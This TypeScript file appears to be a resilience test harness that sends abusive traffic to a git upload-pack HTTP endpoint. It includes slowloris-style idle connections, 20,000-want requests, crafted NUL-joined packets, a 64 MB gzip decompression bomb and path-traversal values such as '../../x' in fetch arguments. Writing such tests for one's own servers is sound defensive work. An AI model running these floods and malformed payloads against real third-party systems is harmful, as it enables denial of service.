import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { type Attack, atRate } from '../attack.ts';
import { ask, headOf, hold, PROTOCOL_V2 } from '../client.ts';
import { fetchBody, packet } from '../fetch-body.ts';
import type { Target } from '../target.ts';

const pathOf = (name: string): string => `/git/${name}/git-upload-pack`;
const commitsOf = ({ commitsFile }: Target): string[] => readFileSync(commitsFile, 'utf8').split('\n').filter(Boolean);
const randomOid = (): string => randomBytes(20).toString('hex');
const pick = <T>(items: readonly T[]): T => items[Math.floor(Math.random() * items.length)] as T;

/** Packets made to have the key of another question: NUL between arguments, an agent in the middle of a v0 line. */
export const craftedPackets: Attack = {
  name: 'crafted packets',
  run: async (target, tally, signal) => {
    const path = pathOf(`${target.own}/big.git`);
    await atRate(5, 5, signal, async (index) => {
      const args = ['thin-pack', 'ofs-delta', 'no-progress', `deepen ${index}`, `want ${target.bigTip}`, 'done'];
      const joined = { path, method: 'POST', headers: PROTOCOL_V2, body: fetchBody([args.join('\0')]) } as const;
      await ask(target, tally, signal, joined);
      const v0 = [packet(`want ${target.bigTip} agent=x${index}\0done ofs-delta\n`), Buffer.from('00000009done\n')];
      const { 'content-type': type } = PROTOCOL_V2;
      await ask(target, tally, signal, { ...joined, headers: { 'content-type': type }, body: Buffer.concat(v0) });
    });
  },
};

/** One request of 1 MB with 20,000 wants: commits that exist and are no tips, or that do not exist. */
export const unknownWants: Attack = {
  name: '20,000 wants',
  run: async (target, tally, signal) => {
    const [, ...commits] = commitsOf(target);
    const path = pathOf(`${target.own}/history.git`);
    await atRate(0.5, 4, signal, async (index) => {
      const oids = index % 2 === 0 ? commits : commits.map(randomOid);
      const body = fetchBody([...oids.map((oid) => `want ${oid}`), 'done']);
      await ask(target, tally, signal, { path, method: 'POST', headers: PROTOCOL_V2, body });
    });
  },
};

/** Connections that ask for 20 MB, each with a question of its own, and never read. */
export const idleReaders: Attack = {
  name: 'readers that never read',
  run: async (target, tally, signal) => {
    await atRate(10, 60, signal, async () => {
      const body = fetchBody(['no-progress', `want ${target.bigTip}`, `have ${randomOid()}`, 'done']);
      const length = { 'content-length': String(body.length) };
      const head = headOf(target, `POST ${pathOf(`${target.own}/big.git`)}`, { ...PROTOCOL_V2, ...length });
      tally.add('opened');
      await hold(target, signal, Buffer.concat([Buffer.from(head), body]), (socket) => void socket.pause());
      if (!signal.aborted) tally.add('closed');
    });
  },
};

/** Real fetches, no two of them the same: git has to work for each. */
export const differentFetches: Attack = {
  name: 'fetches, each a different one',
  run: async (target, tally, signal) => {
    const [tip = '', ...commits] = commitsOf(target);
    const path = pathOf(`${target.own}/history.git`);
    await atRate(20, 16, signal, async (index) => {
      const body = fetchBody(['no-progress', `want ${tip}`, `have ${pick(commits)}`, `deepen ${index + 1}`, 'done']);
      await ask(target, tally, signal, { path, method: 'POST', headers: PROTOCOL_V2, body });
    });
  },
};

const MALFORMED: readonly ((target: Target) => Buffer)[] = [
  () => randomBytes(500),
  () => Buffer.from('fff0command=fetch'),
  () => Buffer.from('0003'),
  ({ bigTip }) => fetchBody([`want ${bigTip}`]).subarray(0, 40),
  ({ bigTip }) => fetchBody([`want ${bigTip}`, 'deepen 99999999999999999999', 'done']),
  ({ bigTip }) => fetchBody([`want ${bigTip}`, 'filter sparse:oid=../../x', 'done']),
  ({ bigTip }) => fetchBody([`want ${bigTip}`, 'want-ref refs/heads/../x', 'packfile-uris https', 'done']),
  ({ bigTip }) => fetchBody([`want ${bigTip}`, 'shallow 0', 'done']),
  () => fetchBody(['want 0000000000000000000000000000000000000000', 'done']),
  ({ bigTip }) => fetchBody([`want ${bigTip}`, 'done'], ['object-format=sha256']),
  ({ bigTip }) => packet(`want ${bigTip} multi_ack\n`),
];

/** Fetches that git refuses, or that make it fail; some unpack to 64 MB, some are torn. */
export const malformedFetches: Attack = {
  name: 'malformed fetches',
  run: async (target, tally, signal) => {
    const path = pathOf(`${target.own}/big.git`);
    const bomb = gzipSync(Buffer.alloc(64 * 2 ** 20));
    await atRate(20, 20, signal, async (index) => {
      const isPacked = index % 20 === 0;
      const body = isPacked ? bomb.subarray(0, index % 40 === 0 ? bomb.length : 20_000) : pick(MALFORMED)(target);
      const { 'content-type': type } = PROTOCOL_V2;
      const headers = { ...(index % 5 === 0 ? { 'content-type': type } : PROTOCOL_V2) };
      const question = { path, method: 'POST', body } as const;
      const packed = isPacked && { 'content-encoding': 'gzip' };
      await ask(target, tally, signal, { ...question, headers: { ...headers, ...packed } });
    });
  },
};
